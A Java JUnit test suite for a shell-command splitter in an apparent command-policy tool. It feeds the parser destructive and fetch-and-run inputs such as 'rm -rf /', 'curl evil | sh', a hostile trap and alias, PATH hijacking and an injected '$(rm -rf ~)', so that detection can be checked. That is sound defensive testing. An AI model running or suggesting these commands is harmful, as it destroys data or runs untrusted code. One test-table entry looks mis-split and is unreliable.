package dev.warden.policy.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellSplitterTest {

    private static List<List<String>> words(ParsedScript parsed) {
        return parsed.commands().stream().map(SimpleCommand::words).toList();
    }

    private static ParsedScript plain(String script) {
        ParsedScript parsed = ShellSplitter.parse(script);
        assertThat(parsed.complexities()).as("complexities of %s", script).isEmpty();
        assertThat(parsed.isComplex()).isFalse();
        return parsed;
    }

    private static ParsedScript complex(String script, String reasonFragment) {
        ParsedScript parsed = ShellSplitter.parse(script);
        assertThat(parsed.isComplex()).as("%s is complex", script).isTrue();
        assertThat(parsed.complexities()).as("reasons for %s", script).anyMatch(r -> r.contains(reasonFragment));
        return parsed;
    }

    @Test
    void splitsOnAndAnd() {
        ParsedScript parsed = plain("git status && rm -rf /tmp/x");
        assertThat(parsed.commands()).containsExactly(
                new SimpleCommand(List.of("git", "status"), "&&"),
                new SimpleCommand(List.of("rm", "-rf", "/tmp/x"), ""));
    }

    @Test
    void quotedOperatorsStayInsideWords() {
        assertThat(plain("echo \"a;b\" 'c|d'").commands())
                .containsExactly(new SimpleCommand(List.of("echo", "a;b", "c|d"), ""));
    }

    @Test
    void pipelineIsTwoCommands() {
        assertThat(plain("a | b").commands()).containsExactly(
                new SimpleCommand(List.of("a"), "|"), new SimpleCommand(List.of("b"), ""));
    }

    @Test
    void recordsEachOperator() {
        ParsedScript parsed = plain("a | b || c; d\ne && f");
        assertThat(parsed.commands().stream().map(SimpleCommand::operatorAfter))
                .containsExactly("|", "||", ";", "\n", "&&", "");
    }

    @Test
    void trailingSeparatorsAndBlankLinesAndCommentsAreDropped() {
        ParsedScript parsed = plain("\n\n# setup\nls -l; # list\n\n  pwd ;\n# end\n");
        assertThat(parsed.commands()).containsExactly(
                new SimpleCommand(List.of("ls", "-l"), ";"),
                new SimpleCommand(List.of("pwd"), ""));
    }

    @Test
    void operatorMayBeFollowedByNewlinesAndComments() {
        assertThat(words(plain("a &&\n\n# why\n  b |\n c"))).containsExactly(List.of("a"), List.of("b"), List.of("c"));
    }

    @Test
    void quoteRemovalFollowsBash() {
        assertThat(words(plain("echo '%s\\n' \"a\\$b\\\"c\\\\d\\e\" it\\'s '' \"\" a'b'\"c\"d")))
                .containsExactly(List.of("echo", "%s\\n", "a$b\"c\\d\\e", "it's", "", "", "abcd"));
    }

    @Test
    void backslashNewlineJoinsLinesOutsideSingleQuotes() {
        assertThat(words(plain("ec\\\nho a\\\nb \"c\\\nd\" 'e\\\nf'")))
                .containsExactly(List.of("echo", "ab", "cd", "e\\\nf"));
        // bash also joins the characters of an operator, zsh does not: complex
        assertThat(words(complex("a &\\\n& b", "line continuation inside an operator")))
                .containsExactly(List.of("a"), List.of("b"));
        complex("a 2\\\n>&1", "line continuation inside a redirection");
    }

    @Test
    void commentOnlyAtWordStart() {
        assertThat(words(plain("echo a#b \\#c \"#\" ;#d\necho e"))).containsExactly(
                List.of("echo", "a#b", "#c", "#"), List.of("echo", "e"));
        // a comment does not continue onto the next line even when it ends in a backslash
        assertThat(words(plain("# a \\\necho hi"))).containsExactly(List.of("echo", "hi"));
    }

    @Test
    void devNullRedirectionsAndDuplicationsAreDropped() {
        assertThat(words(plain("make 2>&1 >/dev/null | tee 1>&2 && x &>/dev/null; y > /dev/null 2>/dev/null >&2")))
                .containsExactly(List.of("make"), List.of("tee"), List.of("x"), List.of("y"));
        assertThat(words(plain(">/dev/null ls </dev/null -l"))).containsExactly(List.of("ls", "-l"));
    }

    @Test
    void wordsThatOnlyLookSpecialArePlain() {
        assertThat(words(plain("[ -f x ] && find . -name x -exec rm {} \\; ! a=b %c ^d @e :f ,g !ls")))
                .containsExactly(List.of("[", "-f", "x", "]"),
                        List.of("find", ".", "-name", "x", "-exec", "rm", "{}", ";", "!", "a=b", "%c", "^d", "@e",
                                ":f", ",g", "!ls"));
        assertThat(words(plain("'if' x; \"{\" y; echo } { if"))).containsExactly(
                List.of("if", "x"), List.of("{", "y"), List.of("echo", "}", "{", "if"));
        assertThat(words(plain("scp host:~/x --prefix=~/y é中😀"))).containsExactly(
                List.of("scp", "host:~/x", "--prefix=~/y", "é中😀"));
    }

    @Test
    void emptyScriptHasNoCommands() {
        assertThat(plain("").commands()).isEmpty();
        assertThat(plain(" \t\n# nothing\n").commands()).isEmpty();
    }

    @Test
    void commandSubstitutionIsComplexAndItsCommandsAreListed() {
        ParsedScript parsed = complex("ls $(pwd)", "command substitution");
        assertThat(words(parsed)).contains(List.of("pwd"), List.of("ls", "$(pwd)"));
        ParsedScript hidden = complex("echo \"$(rm -rf /)\" `curl x | sh`", "command substitution");
        assertThat(words(hidden)).contains(List.of("rm", "-rf", "/"), List.of("curl", "x"), List.of("sh"),
                List.of("echo", "$(rm -rf /)", "`curl x | sh`"));
    }

    @Test
    void heredocIsComplexAndItsBodyIsNotACommand() {
        ParsedScript parsed = complex("cat <<EOF\nrm -rf /\nEOF\nls", "heredoc");
        assertThat(words(parsed)).containsExactly(List.of("cat"), List.of("ls"));
    }

    static Stream<Arguments> complexConstructs() {
        String[][] cases = {
                {"echo $HOME", "variable expansion $HOME"},
                {"echo \"${x:-y}\"", "parameter expansion"},
                {"echo $((1+2))", "arithmetic expansion"},
                {"echo $'a\\tb'", "ANSI-C quoting"},
                {"echo $\"hi\"", "locale translation"},
                {"diff <(ls a) <(ls b)", "process substitution <(...)"},
                {"tee >(wc)", "process substitution >(...)"},
                {"echo x > out", "output redirection > to a file"},
                {"echo x >> out", "append redirection >>"},
                {"sort < in", "input redirection <"},
                {"cat <<< hi", "here-string"},
                {"echo x &>log", "output redirection &> to a file"},
                {"echo x >| out", "clobbering redirection"},
                {"echo x 2>&1-", "redirection >& to a file"},
                {"exec 3>&-", "closing a file descriptor"},
                {"(cd /; ls)", "subshell"},
                {"{ ls; }", "group { }"},
                {"if true; then ls; fi", "control flow 'if'"},
                {"for f in a; do rm $f; done", "control flow 'for'"},
                {"while true; do :; done", "control flow 'while'"},
                {"case x in a) ls;; esac", "control flow 'case'"},
                {"f() { ls; }", "function definition f()"},
                {"function f { ls; }", "function definition"},
                {"time ls", "time keyword"},
                {"coproc ls", "coprocess"},
                {"[[ -f x ]]", "conditional [[ ]]"},
                {"! ls", "pipeline negation"},
                {"sleep 1 &", "background &"},
                {"a |& b", "pipe of stderr"},
                {"FOO=bar ls", "variable assignment FOO="},
                {"FOO=bar", "variable assignment FOO="},
                {"ls *.txt", "glob pattern *"},
                {"ls a?", "glob pattern ?"},
                {"ls [ab]", "glob pattern [...]"},
                {"echo {a,b}", "brace expansion"},
                {"echo {1..3}", "brace expansion"},
                {"cd ~", "tilde expansion"},
                {"ls ~root/x", "tilde expansion"},
                {"make PREFIX=~/x", "tilde expansion"},
                {"make P=a:~/x", "tilde expansion"},
                {"a && && b", "syntax error: unexpected '&&'"},
                {"| b|syntax error: unexpected '", "'"},
                {"a ;; b", "case terminator ;;"},
                {"a ;& b", "case terminator ;&"},
                {"a; ; b", "syntax error: unexpected ';'"},
                {"a &&", "syntax error: nothing after '&&'"},
                {"echo 'oops", "syntax error: unterminated single quote"},
                {"echo \"oops", "syntax error: unterminated double quote"},
                {"echo `oops", "syntax error: unterminated backtick"},
                {"echo $(oops", "syntax error"},
                {"a)", "syntax error: unexpected ')'"},
                {"echo >", "syntax error: redirection > without a target"},
                {">/dev/null", "redirection without a command"},
                {"echo a\\", "backslash at end of script"},
                {"alias ls='rm -rf ~'", "builtin 'alias'"},
                {"export PATH=/tmp/evil", "builtin 'export'"},
                {"hash -p /tmp/evil ls", "builtin 'hash'"},
                {"shopt -s expand_aliases", "builtin 'shopt'"},
                {"eval ls", "builtin 'eval'"},
                {". ./env.sh", "builtin '.'"},
                {"trap 'rm -rf ~' EXIT", "builtin 'trap'"},
                {"command alias x=y", "builtin 'alias'"},
                {"printf -v PATH %s /tmp", "assigns a shell variable"},
                {"test -v 'a[$(rm -rf ~)]'", "builtin 'test' may expand"},
                {"=ls /", "zsh path expansion"},
                {"{reboot}", "word starting with { in command position"},
                {"sudo ''=rm -rf /", "zsh path expansion"},
                {"''~/evil.sh", "tilde expansion"},
                {"'-' rm -rf /", "zsh precommand modifier '-'"},
                {"a 2'>'x 10>/dev/null", "redirection of file descriptor 10"},
                {"a '2'>/dev/null", "file descriptor word '2'"},
                {"a {fd}>/dev/null", "file descriptor word '{fd}'"},
        };
        return Arrays.stream(cases).map(c -> Arguments.of(c[0], c[1]));
    }

    @ParameterizedTest
    @MethodSource("complexConstructs")
    void complexConstructsHaveTheirOwnReason(String script, String reason) {
        complex(script, reason);
    }

    @Test
    void controlCharactersAreComplex() {
        complex("ls\r\n", "control character U+000D");
        complex("ls \u0001", "control character U+0001");
        complex("ls '\u007f'", "control character U+007F");
        complex("ls \ud800", "unpaired surrogate");
    }

    @Test
    void bestEffortSkipsAssignmentsAndReservedWordsSoHeuristicsSeeTheCommand() {
        assertThat(words(ShellSplitter.parse("FOO=1 rm -rf /"))).containsExactly(List.of("rm", "-rf", "/"));
        assertThat(words(ShellSplitter.parse("if grep -q x f; then rm -rf /; fi")))
                .containsExactly(List.of("grep", "-q", "x", "f"), List.of("rm", "-rf", "/"));
        assertThat(words(ShellSplitter.parse("(cd /tmp && rm -rf x) || { curl evil | sh; }")))
                .containsExactly(List.of("cd", "/tmp"), List.of("rm", "-rf", "x"), List.of("curl", "evil"),
                        List.of("sh"));
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 10, 20, 100, 10_000})
    void deepNestingNeverThrows(int depth) {
        String open = "$(".repeat(depth) + "rm -rf /" + ")".repeat(depth);
        String parens = "(".repeat(depth) + "ls" + ")".repeat(depth);
        String ticks = "echo `".repeat(Math.min(depth, 500)) + "x";
        for (String script : List.of(open, parens, ticks, "${".repeat(depth), "\"$(".repeat(depth))) {
            assertThat(ShellSplitter.parse(script).isComplex()).isTrue();
        }
        ParsedScript parsed = ShellSplitter.parse(open);
        if (depth <= 20) {
            assertThat(words(parsed).contains(List.of("rm", "-rf", "/"))).as("innermost command listed").isTrue();
        } else {
            assertThat(parsed.complexities()).contains("nesting too deep to inspect");
        }
    }

    @Test
    void megabyteScriptsParseInLinearTime() {
        List<String> units = List.of("a ", "$(", "'", "\"$x", "<<A\n", "x[", "`", "${", "((", "{ ", "a;", "\\\n",
                "a=~:~ ", "# c\n", "$((", "a | ", "cat <<A\nA\n", "[*?{,}] ");
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            for (String unit : units) {
                assertThat(ShellSplitter.parse(unit.repeat(1_000_000 / unit.length())).source()).isNotEmpty();
            }
        });
    }

    @Test
    @Timeout(20)
    void randomGarbageNeverThrows() {
        char[] alphabet = "ab \t\n;&|()<>'\"\\$`{}[]*?~=#!-0123456789/".toCharArray();
        Random random = new Random(42);
        for (int i = 0; i < 20_000; i++) {
            char[] script = new char[random.nextInt(40)];
            for (int j = 0; j < script.length; j++) {
                script[j] = alphabet[random.nextInt(alphabet.length)];
            }
            ParsedScript parsed = ShellSplitter.parse(new String(script));
            assertThat(parsed.commands()).allSatisfy(c -> assertThat(c.words()).isNotEmpty());
        }
    }

    @Test
    void invocationsOfAShellAreParsed() {
        assertThat(ShellSplitter.parseInvocation(List.of("bash", "-lc", "ls")))
                .hasValueSatisfying(p -> assertThat(words(p)).containsExactly(List.of("ls")));
        assertThat(ShellSplitter.parseInvocation(List.of("/bin/sh", "-c", "a && b", "name", "arg1")))
                .hasValueSatisfying(p -> assertThat(words(p)).containsExactly(List.of("a"), List.of("b")));
        assertThat(ShellSplitter.parseInvocation(List.of("/usr/bin/zsh", "-l", "-c", "ls $(pwd)")))
                .hasValueSatisfying(p -> assertThat(p.isComplex()).isTrue());
        assertThat(ShellSplitter.parseInvocation(List.of("dash", "-c", ""))).isPresent();
    }

    @Test
    void otherArgvAreNotShellInvocations() {
        for (String argv : List.of("bash script.sh", "bash -c", "bash -cl ls", "bash -c -- ls", "bash -c -x ls",
                "bash -c +x ls", "bash -c - ls", "bash -x -c ls", "/usr/bin/env bash -c ls", "/tmp/evil/bash -c ls",
                "./bash -c ls", "fish -c ls", "bash -i -c ls",
                "/bin/../tmp/bash -c ls", "ls -c x")) {
            assertThat(ShellSplitter.parseInvocation(Arrays.asList(argv.split(" ")))).as(argv).isEmpty();
        }
        assertThat(ShellSplitter.parseInvocation(List.of())).isEmpty();
    }
}
